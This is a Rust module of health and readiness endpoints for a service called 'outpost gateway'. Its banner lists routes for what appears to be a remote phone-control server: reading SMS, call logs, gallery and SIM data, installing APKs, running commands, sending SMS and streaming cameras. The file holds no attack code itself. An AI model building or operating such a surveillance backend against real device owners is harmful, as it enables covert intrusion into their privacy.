//! Health check endpoints

use std::sync::Arc;

use axum::{
    extract::State,
    http::StatusCode,
    routing::get,
    Json, Router,
};
use serde::Serialize;

use super::ApiState;

/// Routes listed by the banner
const ROUTES: &[&str] = &[
    "GET    /health",
    "GET    /ready",
    "POST   /api/register",
    "POST   /api/heartbeat",
    "GET    /api/devices",
    "DELETE /api/device/{deviceId}",
    "DELETE /api/clear/{deviceId}",
    "POST   /api/command",
    "POST   /api/flashlight",
    "POST   /api/hotspot",
    "POST   /api/toast",
    "POST   /api/dismissToast",
    "GET    /api/sms/{deviceId}",
    "GET    /api/calls/{deviceId}",
    "GET    /api/gallery/{deviceId}",
    "GET    /api/installedApps/{deviceId}",
    "GET    /api/simInfo/{deviceId}",
    "GET    /api/hotspotStatus/{deviceId}",
    "POST   /api/installApk",
    "POST   /api/cmd",
    "POST   /api/sendSms",
    "POST   /api/request/{deviceId}/{kind}",
    "GET    /api/live/{deviceId}?camera=",
    "POST   /api/frame",
    "GET    /api/snapshot/{deviceId}?camera=",
];

/// Health check response
#[derive(Serialize)]
pub struct HealthResponse {
    pub status: &'static str,
    pub version: &'static str,
}

/// Service banner
#[derive(Serialize)]
pub struct BannerResponse {
    pub service: &'static str,
    pub version: &'static str,
    pub routes: &'static [&'static str],
}

/// Detailed readiness response
#[derive(Serialize)]
pub struct ReadinessResponse {
    pub status: &'static str,
    pub checks: ReadinessChecks,
}

/// Individual readiness checks
#[derive(Serialize)]
pub struct ReadinessChecks {
    pub store: CheckResult,
}

/// Result of a single health check
#[derive(Serialize)]
pub struct CheckResult {
    pub status: &'static str,
    pub backend: &'static str,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub message: Option<String>,
}

/// Service banner with the route list
async fn banner() -> Json<BannerResponse> {
    Json(BannerResponse {
        service: "outpost gateway",
        version: env!("CARGO_PKG_VERSION"),
        routes: ROUTES,
    })
}

/// Liveness probe - is the service running?
async fn health() -> Json<HealthResponse> {
    Json(HealthResponse {
        status: "ok",
        version: env!("CARGO_PKG_VERSION"),
    })
}

/// Readiness probe - can the service reach the shared store?
async fn ready(State(state): State<Arc<ApiState>>) -> (StatusCode, Json<ReadinessResponse>) {
    let backend = state.broker.store().backend();
    let store = match state.broker.ready().await {
        Ok(()) => CheckResult {
            status: "ok",
            backend,
            message: None,
        },
        Err(e) => CheckResult {
            status: "fail",
            backend,
            message: Some(e.to_string()),
        },
    };

    let all_ok = store.status == "ok";
    let http_status = if all_ok {
        StatusCode::OK
    } else {
        StatusCode::SERVICE_UNAVAILABLE
    };

    (
        http_status,
        Json(ReadinessResponse {
            status: if all_ok { "ok" } else { "degraded" },
            checks: ReadinessChecks { store },
        }),
    )
}

/// Build health router (liveness only, no state needed)
pub fn router() -> Router {
    Router::new()
        .route("/", get(banner))
        .route("/health", get(health))
}

/// Build readiness router (needs state for checks)
pub fn ready_router(state: Arc<ApiState>) -> Router {
    Router::new().route("/ready", get(ready)).with_state(state)
}
